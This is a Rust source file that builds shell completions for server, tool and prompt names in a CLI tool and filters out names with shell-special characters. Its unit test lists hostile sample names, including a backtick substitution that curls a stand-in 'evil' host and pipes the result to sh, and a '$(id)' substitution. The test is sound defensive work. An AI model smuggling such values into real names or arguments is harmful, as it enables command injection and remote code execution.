//! Shell completions for the names of servers, tools and prompts.
//!
//! **Invariant:** a shell inserts a completion into the command line unchanged, so a name that a
//! server chose is offered only if it has no special meaning in any shell.

use std::ffi::OsStr;

use capstan_app::Selection;
use capstan_app::api::is_plain;
use capstan_model::Kind;
use clap::CommandFactory;
use clap_complete::engine::{ArgValueCompleter, CompletionCandidate};

use crate::Services;
use crate::args::Cli;

/// The command with all completers.
pub fn command(services: &Services) -> clap::Command {
    let mut command = Cli::command();
    for verb in ["get", "remove", "enable", "disable", "doctor"] {
        let app = services.clone();
        let names = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, servers(&app)));
        command = command.mut_subcommand(verb, |verb| verb.mut_arg("name", |arg| arg.add(names)));
    }
    for (verb, argument) in [
        ("call", "tool"),
        ("why", "tool"),
        ("tools", "name"),
        ("resources", "server"),
        ("read", "resource"),
        ("prompts", "name"),
        ("prompt", "prompt"),
    ] {
        let app = services.clone();
        let names = ArgValueCompleter::new(move |typed: &OsStr| fitting(typed, names(verb, &app)));
        command = command.mut_subcommand(verb, |verb| verb.mut_arg(argument, |arg| arg.add(names)));
    }
    command
}

fn servers(app: &Services) -> Vec<String> {
    match app.configs.load(&Selection::default()) {
        Ok(setup) => setup.loaded.config.servers.keys().map(ToString::to_string).collect(),
        Err(_) => Vec::new(),
    }
}

/// The names that can follow a verb.
fn names(verb: &str, app: &Services) -> Vec<String> {
    let mut names = match verb {
        "call" | "why" | "tools" => seen(app, Kind::Tool),
        "prompt" | "prompts" => seen(app, Kind::Prompt),
        // There are too many URIs to store; the server's prefix is offered instead.
        "read" => servers(app).into_iter().map(|server| format!("@{server}:")).collect(),
        _ => Vec::new(),
    };
    if matches!(verb, "tools" | "prompts" | "resources") {
        names.extend(servers(app));
    }
    names
}

/// Names from earlier commands, because starting servers at every press of Tab would take too long.
fn seen(app: &Services, kind: Kind) -> Vec<String> {
    let known = servers(app);
    let remembered =
        app.names.remembered(kind).into_iter().filter(|(server, _)| known.contains(server));
    remembered
        .flat_map(|(server, names)| names.into_iter().map(move |name| format!("{server}__{name}")))
        .collect()
}

fn fitting(typed: &OsStr, names: Vec<String>) -> Vec<CompletionCandidate> {
    let typed = typed.to_string_lossy();
    let fits = |name: &String| name.starts_with(typed.as_ref());
    let offered = names.into_iter().filter(|name| is_plain(name));
    offered.filter(fits).map(CompletionCandidate::new).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_names_that_mean_nothing_to_a_shell_are_offered() {
        let names = ["s__read_file", "s__a.b-c", "@s:file:///x", "s__2"];
        let hostile = [
            "s__x`curl evil|sh`",
            "s__$(id)",
            "s__a b",
            "s__a;b",
            "s__a'b",
            "s__a\"b",
            "s__a\nb",
            "s__a\\b",
            "s__*",
            "s__a&b",
            "s__a>b",
            "s__{a,b}",
            "s__~",
            "s__\u{1b}[2J",
            "s__ü",
            "",
        ];
        let all = names.iter().chain(&hostile).map(ToString::to_string).collect();
        let offered: Vec<String> = fitting(OsStr::new(""), all)
            .iter()
            .map(|candidate| candidate.get_value().to_string_lossy().into_owned())
            .collect();
        assert_eq!(offered, names);
    }
}
